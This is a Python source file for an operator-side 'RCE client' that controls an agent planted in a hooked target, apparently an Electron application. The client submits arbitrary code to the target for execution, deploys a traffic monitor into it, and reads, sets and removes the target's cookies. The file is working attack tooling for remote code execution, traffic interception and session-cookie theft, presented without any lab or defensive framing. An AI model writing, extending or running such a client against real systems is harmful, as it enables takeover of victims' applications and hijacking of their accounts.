"""
RCE Client

Operator-side client for a hooked target's control agent.

Results are consumed on the first read, so execute() waits before reading
and only retries when the request itself failed (connection refused,
timeout, 5xx). A job that is still pending when read comes back as
pending and cannot be read again.
"""

import asyncio
import base64
import logging
from typing import Any, Dict, List, Optional

import aiohttp

from core.agent_templates import (
    GET_COOKIES_SNIPPET,
    render_monitor,
    render_monitor_control,
    render_remove_cookie,
    render_set_cookie,
)
from core.exceptions import AgentRequestError, JobExecutionError, JobNotFoundError, JobTimedOutError
from shared.constants import POLL_ATTEMPTS, POLL_DELAY_S, JobStatus, TargetContext

logger = logging.getLogger(__name__)


class RCEClient:
    """
    Usage:
        async with RCEClient("127.0.0.1", 10100) as client:
            job = await client.execute("return 1+1", "main")
    """

    def __init__(
        self,
        host: str,
        port: int,
        poll_attempts: int = POLL_ATTEMPTS,
        poll_delay_s: float = POLL_DELAY_S,
        timeout_s: float = 15.0,
        session: Optional[aiohttp.ClientSession] = None,
    ):
        self.host = host
        self.port = port
        self.base_url = f"http://{host}:{port}"
        self.poll_attempts = poll_attempts
        self.poll_delay_s = poll_delay_s
        self.timeout = aiohttp.ClientTimeout(total=timeout_s)
        self._session = session
        self._owns_session = session is None

    async def __aenter__(self) -> "RCEClient":
        return self

    async def __aexit__(self, *exc) -> None:
        await self.close()

    def _get_session(self) -> aiohttp.ClientSession:
        if self._session is None or self._session.closed:
            self._session = aiohttp.ClientSession(timeout=self.timeout)
            self._owns_session = True
        return self._session

    async def close(self) -> None:
        if self._session is not None and self._owns_session:
            await self._session.close()
        self._session = None

    async def _request(self, method: str, path: str, **kwargs) -> Dict[str, Any]:
        session = self._get_session()
        async with session.request(method, f"{self.base_url}{path}", **kwargs) as resp:
            try:
                body = await resp.json(content_type=None)
            except ValueError:
                body = {"error": await resp.text()}
            if resp.status == 404 and path.startswith("/result/"):
                raise JobNotFoundError(path.rsplit("/", 1)[-1])
            if resp.status >= 400:
                message = body.get("error") if isinstance(body, dict) else None
                raise AgentRequestError(message or f"Agent returned HTTP {resp.status}", status=resp.status)
            return body

    # ==================== Protocol ====================

    async def get_info(self) -> Dict[str, Any]:
        return await self._request("GET", "/info")

    async def send_payload(self, code: str, process: str = TargetContext.PRIMARY.value) -> Dict[str, Any]:
        """POST /console. Returns {jobId, status, process}."""
        process = TargetContext(process).value
        data = base64.b64encode(code.encode("utf-8")).decode("ascii")
        logger.debug(f"[RCE] Submitting {len(code)} chars to {self.base_url} ({process})")
        return await self._request("POST", "/console", json={"data": data, "process": process})

    async def get_payload_status(self, job_id: str) -> Dict[str, Any]:
        """GET /result/{job_id}. Consumes the job."""
        return await self._request("GET", f"/result/{job_id}")

    async def wait_for_result(self, job_id: str) -> Dict[str, Any]:
        last_error: Optional[Exception] = None
        for attempt in range(1, self.poll_attempts + 1):
            await asyncio.sleep(self.poll_delay_s)
            try:
                return await self.get_payload_status(job_id)
            except (aiohttp.ClientError, asyncio.TimeoutError) as e:
                last_error = e
            except AgentRequestError as e:
                if e.status is not None and e.status < 500:
                    raise
                last_error = e
            logger.debug(f"[RCE] Result read {attempt}/{self.poll_attempts} for {job_id} failed: {last_error}")
        raise AgentRequestError(f"Could not read result for job {job_id}: {last_error}")

    async def execute(self, code: str, process: str = TargetContext.PRIMARY.value) -> Dict[str, Any]:
        """Submit code and read its result once"""
        submitted = await self.send_payload(code, process)
        return await self.wait_for_result(submitted["jobId"])

    async def execute_value(self, code: str, process: str = TargetContext.PRIMARY.value) -> Any:
        """Like execute(), but return only the result value.

        Raises:
            JobExecutionError: the code raised, or the job was still pending
            JobTimedOutError: the agent timed the job out
        """
        job = await self.execute(code, process)
        status = job.get("status")
        if status == JobStatus.COMPLETED.value:
            return job.get("result")
        if status == JobStatus.TIMED_OUT.value:
            raise JobTimedOutError(job.get("jobId", ""))
        if status == JobStatus.PENDING.value:
            raise JobExecutionError(f"Job {job.get('jobId')} was still pending when read")
        raise JobExecutionError(job.get("error") or "Unknown error", stack=job.get("stack"))

    # ==================== Traffic monitor ====================

    async def deploy_traffic_monitor(
        self, port: int, host: str = "127.0.0.1", flavor: str = "electron"
    ) -> Dict[str, Any]:
        logger.info(f"[RCE] Deploying {flavor} traffic monitor to {self.base_url} on port {port}")
        return await self.execute(render_monitor(port, host, flavor), TargetContext.PRIMARY.value)

    async def monitor_control(self, action: str, flavor: str = "electron") -> Dict[str, Any]:
        return await self.execute(render_monitor_control(action, flavor), TargetContext.PRIMARY.value)

    # ==================== Cookies ====================

    async def get_cookies(self) -> List[Dict[str, Any]]:
        return await self.execute_value(GET_COOKIES_SNIPPET, TargetContext.PRIMARY.value)

    async def set_cookie(self, cookie: Dict[str, Any]) -> Dict[str, Any]:
        if not cookie.get("url") or not cookie.get("name"):
            raise ValueError("Cookie requires at least url and name")
        return await self.execute_value(render_set_cookie(cookie), TargetContext.PRIMARY.value)

    async def remove_cookie(self, url: str, name: str) -> Dict[str, Any]:
        return await self.execute_value(render_remove_cookie(url, name), TargetContext.PRIMARY.value)
